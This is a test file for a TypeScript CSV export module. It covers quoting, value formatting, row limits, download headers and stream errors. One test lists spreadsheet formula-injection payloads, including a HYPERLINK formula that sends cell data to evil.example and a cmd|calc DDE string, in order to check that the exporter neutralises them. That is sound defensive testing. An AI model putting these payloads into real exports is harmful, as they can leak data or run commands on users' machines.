/** CSV: what is written is read back by the rules, and no spreadsheet computes what a customer wrote. */
import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import Fastify from 'fastify';
import { test } from 'tap';
import { csvChunks, sendCsv, type CsvCell } from '../../../src/http/csv.ts';

interface Row {
  name: CsvCell;
  value: CsvCell;
}
const columns = { Name: (row: Row) => row.name, Value: (row: Row) => row.value };
const written = async (rows: Iterable<Row>, maxRows?: number): Promise<string> =>
  (
    await Array.fromAsync(csvChunks({ columns, rows, ...(maxRows !== undefined && { maxRows }) }))
  ).join('');

const isFormula = (value: string): boolean => /^[=\t\r]/.test(value);

async function* failing(good: number): AsyncGenerator<Row> {
  for (let i = 0; i < good; i += 1) yield { name: 'a', value: i };
  throw new Error('the store is away');
}

test('quotes, separators and ends of lines are quoted as RFC 4180 has it', async (t) => {
  const text = await written([
    { name: 'plain', value: 1 },
    { name: 'a "b", c', value: 'two\r\nlines' },
  ]);
  t.equal(text, '\uFEFFName,Value\r\nplain,1\r\n"a ""b"", c","two\r\nlines"\r\n');
});

test('numbers, times and what is missing are written as they are', async (t) => {
  const text = await written([
    { name: -3, value: -0.5 },
    { name: true, value: new Date(0) },
    { name: null, value: undefined },
  ]);
  t.equal(text, '\uFEFFName,Value\r\n-3,-0.5\r\ntrue,1970-01-01T00:00:00.000Z\r\n,\r\n');
});

test('a text that a spreadsheet would compute is none any more', async (t) => {
  const formulas = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    '+1+cmd|calc!A0',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '＝1+1',
  ];
  const text = await written(formulas.map((name) => ({ name, value: '' })));
  const read = parse(text, { bom: true, columns: true }) as unknown as { Name: string }[];
  t.same(
    read.map((row) => row.Name),
    formulas.map((formula) => `'${formula}`),
  );
});

test('whatever is in a text, it is read back', async (t) => {
  const aText = fc.string({
    unit: fc.constantFrom(...Array.from('abé日 ,;"\t\r\n\'=|🇮🇳')),
    maxLength: 20,
  });
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(aText, aText), { minLength: 1 }), async (pairs) => {
      const text = await written(pairs.map(([name, value]) => ({ name, value })));
      const [, ...read] = parse(text, { bom: true });
      const expected = pairs.map((pair) => pair.map((one) => (isFormula(one) ? `'${one}` : one)));
      return JSON.stringify(read) === JSON.stringify(expected);
    }),
  );
  t.pass('for any texts');
});

test('a list that is too long is cut, and says so', async (t) => {
  const rows = Array.from({ length: 1200 }, (_, i) => ({ name: `n${i}`, value: i }));
  t.equal((await written(rows, 1200)).split('\r\n').length, 1202, 'as many as may be are not cut');
  const lines = (await written(rows, 700)).trimEnd().split('\r\n');
  t.equal(lines.length, 702);
  t.equal(lines.at(-1), 'There are more than 700 rows: ask for fewer.,');
});

test('a file is sent to be downloaded, row by row, under a name that is one', async (t) => {
  const app = Fastify();
  t.teardown(() => app.close());
  app.get('/', (_request, reply) =>
    sendCsv(reply, { name: 'orders of "März"/..', columns, rows: [{ name: 'é', value: 1 }] }),
  );
  const answer = await app.inject('/');
  t.match(answer.headers, {
    'content-type': 'text/csv; charset=utf-8; header=present',
    'content-disposition': 'attachment; filename="orders-of-M-rz-...csv"',
  });
  t.equal(answer.body, '\uFEFFName,Value\r\né,1\r\n');
});

test('a list that cannot be read is refused, and one that breaks off is no whole file', async (t) => {
  const app = Fastify();
  t.teardown(() => app.close());
  app.get<{ Params: { good: string } }>('/:good', (request, reply) =>
    sendCsv(reply, { name: 'a', columns, rows: failing(Number(request.params.good)) }),
  );
  t.equal((await app.inject('/0')).statusCode, 500);
  const url = await app.listen({ port: 0 });
  const answer = await fetch(`${url}/2000`);
  await t.rejects(answer.text(), 'the answer breaks off');
});
